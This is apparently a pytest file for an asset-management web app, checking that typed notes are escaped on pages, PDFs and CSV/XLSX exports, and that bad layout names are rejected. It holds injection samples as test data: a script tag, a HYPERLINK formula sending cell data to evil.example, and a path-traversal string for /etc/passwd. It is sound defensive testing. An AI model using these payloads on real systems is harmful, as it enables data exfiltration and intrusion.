"""What people type is text: a script or a formula in it runs on no page, paper or list, and names nothing."""

from __future__ import annotations

import csv
import io
import subprocess
import zipfile
from collections.abc import Callable
from datetime import timedelta
from io import BytesIO
from typing import Any

import pytest

from assets.core.app import App
from assets.exchange.tables.formulas import is_dangerous
from assets.registry.models import AssetEvent
from tests.support.commands import command, commanded
from tests.support.engines import ON_ONE_ENGINE
from tests.support.transfers import HERE, THERE
from tests.support.world import Clock
from tests.web.conftest import Api, Browser

ApiFor = Callable[[str], Api]
ClientFor = Callable[[str], Browser]
NASTY = '<script>alert("1")</script>{{7*7}}"}],"x":[{"id":1}]'
FORMULA = '=HYPERLINK("http://evil.example?"&A1;"open")'
FORMULAS = (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\uff1d1+1", " =1+1")


@ON_ONE_ENGINE
def test_scripts_in_what_people_note_are_text_on_pages_papers_and_lists(
    app: App, make: Callable[..., str], api: ApiFor, client_for: ClientFor, clock: Clock
) -> None:
    code, here, at = make(), api(HERE), clock.now - timedelta(hours=2)
    until = {"condition": "A", "note": NASTY}
    kinds: tuple[tuple[str, Any], ...] = (
        ("sighting", {"note": NASTY, "mission": NASTY[:60]}),
        ("condition", {"grade": "B", "note": NASTY}),
        ("fault", {"severity": "minor", "text": NASTY}),
        ("check", {"items": {NASTY[:70]: "ok"}, "passed": True}),
        ("issue", {"to": "P-001", "override_reason": NASTY}),
        ("return", until),
        ("transfer_send", {"to_unit": "IMT-FA", "note": FORMULA + NASTY}),
    )
    sent = [command(kind, code, at + timedelta(seconds=n), data) for n, (kind, data) in enumerate(kinds)]
    assert [result["status"] for result in commanded(here, clock.now, *sent)] == ["accepted"] * len(sent)
    with app.reading() as session:
        assert session.get_one(AssetEvent, sent[0]["id"]).data["note"] == NASTY
    worse = {"condition": "D", "differences": [{"kind": "damaged", "note": NASTY}]}
    came = commanded(api(THERE), clock.now, command("transfer_receive", code, clock.now, worse))
    assert came[0]["status"] == "accepted"
    browser = client_for("coordinator")
    transfer = here.get("/transfers").get_json()["items"][0]
    pages = [f"/assets/{code}", "/transfers", f"/transfers/{transfer['sheet']}", "/", "/work-orders"]
    texts = [browser.get(path, follow_redirects=True).get_data(as_text=True) for path in pages]
    assert not [path for path, text in zip(pages, texts, strict=True) if "<script>alert" in text]
    assert "&lt;script&gt;alert" in texts[0]
    assert "{{7*7}}" in texts[0].replace("&#34;", '"')
    pdf = browser.get(f"/transfers/{transfer['sheet']}/sheet.pdf")
    assert pdf.content_type == "application/pdf"
    done = subprocess.run(["pdftotext", "-", "-"], input=pdf.data, capture_output=True, check=True, timeout=60)
    assert "<script>" in done.stdout.decode().replace("\n", "")
    assert not [cell for cell in _cells(browser.get("/transfers/export?format=csv").data) if _runs(cell)]


LISTS = (
    "/transfers/export", "/vehicles", "/vehicles/fuel", "/vehicles/papers", "/vehicles/accidents",
    "/lots/export", "/lots/issues/export", "/lots/items/export",
)  # fmt: skip


@ON_ONE_ENGINE
def test_formulas_that_people_typed_run_in_no_list_that_is_taken_away(
    make: Callable[..., str], api: ApiFor, client_for: ClientFor, clock: Clock
) -> None:
    here, browser = api(HERE), client_for(HERE)
    for number, formula in enumerate(FORMULAS):
        car, item = make("vehicle.patrol"), make()
        at = (clock.now - timedelta(hours=2)).isoformat()
        bodies: tuple[tuple[str, Any], ...] = (
            ("/fuel", {"asset": car, "at": at, "litres": 5, "is_full": True, "station": formula}),
            ("/vehicle-papers", {
                "asset": car, "kind": "insurance", "valid_from": "2026-01-01", "valid_until": "2026-12-05",
                "number": formula[:30], "issuer": formula,
            }),
            ("/accidents", {"asset": car, "at": at, "what": formula, "place": formula, "injured": False}),
            ("/lots", {
                "class": "ident.test_kit", "item": formula[:60], "lot_number": f"{formula[:20]} {number}",
                "unit": "IMT-TK", "quantity": 6, "counted_in": "packs",
            }),
            ("/transfers", {"to_unit": "IMT-FA", "items": [item], "note": formula}),
        )  # fmt: skip
        for path, body in bodies:
            answer = here.post(path, body)
            assert answer.status_code == 201, answer.get_data(as_text=True)
            if path == "/lots":
                given = {"quantity": 1, "to": "P-002", "reason": formula}
                issued = command("stock_issue", answer.get_json()["code"], clock.now, given)
                assert commanded(here, clock.now, issued)[0]["status"] == "accepted"
    for path in LISTS:
        found = browser.get(f"{path}?format=csv")
        assert found.status_code == 200, path
        cells = _cells(found.data)
        assert not [cell for cell in cells if _runs(cell)], path
        if path not in {"/vehicles", "/transfers/export"}:  # which hold no words of people
            assert any(cell.startswith("'") for cell in cells), f"{path} holds what was typed"
        sheet = browser.get(f"{path}?format=xlsx")
        if sheet.status_code == 200 and sheet.data.startswith(b"PK"):
            with zipfile.ZipFile(BytesIO(sheet.data)) as book:
                assert not [name for name in book.namelist() if b"<f>" in book.read(name)], path


def _runs(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula: what begins with an apostrophe is text."""
    return is_dangerous(cell) and not cell.startswith("'")


def _cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    first = text.splitlines()[0]
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";" if ";" in first else ",") for cell in row]


@ON_ONE_ENGINE
@pytest.mark.parametrize("name", [FORMULA, "<script>", "../../etc/passwd", "a\x00b", "\u202eevil", "CON:", "x" * 5000])
def test_a_layout_has_a_plain_name_or_none(name: str, api: ApiFor) -> None:
    here = api(HERE)
    answer = here.post(
        "/labels/layouts", {"name": name, "media": "roll", "label_width_mm": 60, "label_height_mm": 40}
    )  # fmt: skip
    assert answer.status_code == 400
    assert answer.get_json()["errors"][0]["field"] == "name"
    assert "evil" not in here.get("/labels/layouts").get_data(as_text=True)
